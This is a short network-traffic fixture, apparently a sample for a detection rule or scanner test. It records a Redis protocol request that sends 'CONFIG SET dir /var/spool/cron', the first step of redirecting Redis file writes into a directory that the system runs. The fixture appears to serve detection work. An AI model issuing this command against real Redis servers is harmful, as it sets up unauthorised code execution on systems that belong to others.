# Redis, files redirected to a folder that is run or trusted.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6379

>>>
*4\r\n
$6\r\n
CONFIG\r\n
$3\r\n
SET\r\n
$3\r\n
dir\r\n
$15\r\n
/var/spool/cron\r\n
